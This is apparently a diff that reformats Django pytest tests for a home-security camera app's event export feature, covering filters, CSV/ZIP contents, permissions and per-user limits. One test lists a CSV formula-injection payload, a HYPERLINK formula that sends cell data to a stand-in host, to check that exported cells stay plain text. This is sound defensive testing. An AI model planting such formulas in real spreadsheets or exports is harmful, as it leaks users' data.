@@ -36,8 +36,9 @@ def seeded():
     now = timezone.now()
 
     def event(cam, score, summary, days_ago):
-        return Event.objects.create(camera=cam, started_at=now - timedelta(days=days_ago),
-                                    risk_score=score, summary=summary)  # fmt: skip
+        return Event.objects.create(
+            camera=cam, started_at=now - timedelta(days=days_ago), risk_score=score, summary=summary
+        )
 
     wanted = [event(front, 70, "Person at the door", 0), event(front, 75, "A person lingers", 1)]
     event(front, 70, "Person at the door", 5)  # too old
@@ -60,8 +61,9 @@ def test_an_export_holds_exactly_the_matching_events_and_its_progress_reaches_a_
 ):
     owner = member(django_user_model.objects.create_user("owner", password="pw"))
     wanted, filters = seeded()
-    created = logged_in(owner).post("/api/exports/", {"format": "csv", "filters": filters},
-                                    content_type="application/json")  # fmt: skip
+    created = logged_in(owner).post(
+        "/api/exports/", {"format": "csv", "filters": filters}, content_type="application/json"
+    )
     assert created.status_code == 201, created.content
     job = created.json()
     assert job["socket"] == f"/ws/jobs/{job['id']}/"
@@ -138,8 +140,16 @@ def test_a_zip_export_holds_the_csv_originals_thumbnails_and_clips(camera_root, 
 @pytest.mark.django_db
 def test_text_that_starts_like_a_formula_stays_text_in_the_csv(settings):
     owner, cam = factories_user(), factories.camera()
-    notes = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "@SUM(1+1)", "+1", "-1",
-             "\tTAB", "\rCR", "plain note", "a = b"]  # fmt: skip
+    notes = [
+        '=HYPERLINK("http://x.example/?"&A1,"open")',
+        "@SUM(1+1)",
+        "+1",
+        "-1",
+        "\tTAB",
+        "\rCR",
+        "plain note",
+        "a = b",
+    ]
     for note in notes:
         event = factories.event(cam)
         event.notes = note
@@ -223,8 +233,9 @@ def test_a_login_in_neither_group_only_looks_and_exports_nothing(django_user_mod
     from django.contrib.auth.models import User
 
     looker = User.objects.create_user("looker", password="pw")
-    refused = logged_in(looker).post("/api/exports/", {"format": "csv", "filters": {}},
-                                     content_type="application/json")  # fmt: skip
+    refused = logged_in(looker).post(
+        "/api/exports/", {"format": "csv", "filters": {}}, content_type="application/json"
+    )
     assert refused.status_code == 403
     assert refused.json()["detail"] == "No export: only admins and members can export events."
     page = logged_in(looker).post("/exports/", {"format": "csv"}, follow=True)
@@ -238,8 +249,9 @@ def test_a_login_keeps_at_most_the_set_number_of_exports(settings):
     owner, other = factories_user(), factories_user()
     first = exports.create(owner, "csv", {})
     exports.create(owner, "csv", {})
-    refused = logged_in(owner).post("/api/exports/", {"format": "zip", "filters": {}},
-                                    content_type="application/json")  # fmt: skip
+    refused = logged_in(owner).post(
+        "/api/exports/", {"format": "zip", "filters": {}}, content_type="application/json"
+    )
     assert refused.status_code == 429
     assert "the most one login may (HOMESEC_EXPORTS_PER_USER)" in refused.json()["detail"]
     assert 0 < int(refused["Retry-After"]) <= settings.EXPORT_KEEP_HOURS * 3600
@@ -253,9 +265,17 @@ def test_a_login_keeps_at_most_the_set_number_of_exports(settings):
 def test_the_exports_page_starts_an_export_of_its_filter_and_lists_it(camera_root):
     factories.camera("Front Door")
     client = logged_in(factories_user())
-    answer = client.post("/exports/", {"format": "zip", "camera": "front_door",
-                                       "risk_level": "high", "date_from": "2026-01-02",
-                                       "date_to": "2026-01-03", "search": "person"})  # fmt: skip
+    answer = client.post(
+        "/exports/",
+        {
+            "format": "zip",
+            "camera": "front_door",
+            "risk_level": "high",
+            "date_from": "2026-01-02",
+            "date_to": "2026-01-03",
+            "search": "person",
+        },
+    )
     assert answer.status_code == 302
     job = ExportJob.objects.get()
     assert job.format == "zip"
